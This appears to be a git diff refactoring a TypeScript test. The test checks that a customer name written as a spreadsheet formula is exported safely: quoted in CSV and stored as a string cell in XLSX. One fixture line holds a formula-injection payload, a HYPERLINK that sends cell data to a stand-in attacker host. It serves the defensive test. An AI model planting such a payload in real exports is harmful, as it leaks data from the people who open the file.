@@ -3,16 +3,12 @@
 // (docs/decisions/realtime-door.md, "Exports"). The export code is the app's own
 // (lib/server/report-export.ts), fed by the provider as the export route feeds it.
 import assert from 'node:assert/strict';
-import { Writable } from 'node:stream';
-import { pipeline } from 'node:stream/promises';
 import { after, before, describe, it } from 'node:test';
-import ExcelJS from 'exceljs';
 import { studioDay } from '../../domain/studio-time';
-import { providerText } from '../../graphql/provider-text';
 import { customerRevenueReport } from '../../lib/reports/customer-revenue';
-import type { Requester } from '../../lib/reports/definition';
-import { exportStream, type ExportFormat } from '../../lib/server/report-export';
+import type { ExportFormat } from '../../lib/server/report-export';
 import { customers } from '../../provider/src/db/schema';
+import { csvLines, exportedReport, xlsxRows } from './report-export-support';
 import { startTaskWorld, type TaskWorld } from './tasks-support';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")';
@@ -34,31 +30,15 @@ before(async () => {
 });
 after(async () => w?.p.close());
 
-const request: Requester = async (operation, variables) => {
-  const result = await w.p.gql(providerText(operation), variables as Record<string, unknown>, { token: w.token.admin });
-  if (result.errors) throw new Error(JSON.stringify(result.errors));
-  return result.data as never;
-};
-
-async function exported(format: ExportFormat): Promise<Buffer> {
+/** This month's customer revenue, exported. */
+function exported(format: ExportFormat): Promise<Buffer> {
   const today = studioDay();
-  const filter = { startDate: `${today.slice(0, 8)}01`, endDate: today };
-  const params = new URLSearchParams();
-  const first = await customerRevenueReport.load(request, filter, params, null, 'export');
-  const chunks: Buffer[] = [];
-  const sink = new Writable({
-    write(chunk, _encoding, done) {
-      chunks.push(Buffer.from(chunk));
-      done();
-    },
-  });
-  await pipeline(exportStream(format, { definition: customerRevenueReport, request, filter, params, first }), sink);
-  return Buffer.concat(chunks);
+  return exportedReport(w, customerRevenueReport, { startDate: `${today.slice(0, 8)}01`, endDate: today }, format);
 }
 
 describe('a customer named like a formula, exported', () => {
   it('CSV: the name starts with a single quote; the plain name and the numbers are as they were', async () => {
-    const lines = (await exported('csv')).toString('utf8').replace('\ufeff', '').trim().split('\n');
+    const lines = csvLines(await exported('csv'));
     const formula = lines.find((line) => line.includes('HYPERLINK'));
     assert.ok(formula, lines.join('\n'));
     // csv-stringify quotes the field (it holds quotes and a comma): "'=HYPERLINK(""http…
@@ -69,10 +49,7 @@ describe('a customer named like a formula, exported', () => {
   });
 
   it('XLSX: the same name is a quoted string cell, never a formula; jobs and files are numbers', async () => {
-    const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load((await exported('xlsx')) as unknown as ArrayBuffer);
-    const rows: unknown[][] = [];
-    workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
+    const rows = await xlsxRows(await exported('xlsx'));
     const formula = rows.find((row) => String(row[0]).includes('HYPERLINK'))!;
     assert.equal(formula[0], `'${FORMULA_NAME}`);
     assert.deepEqual(formula.slice(1, 3), [1, 3]);
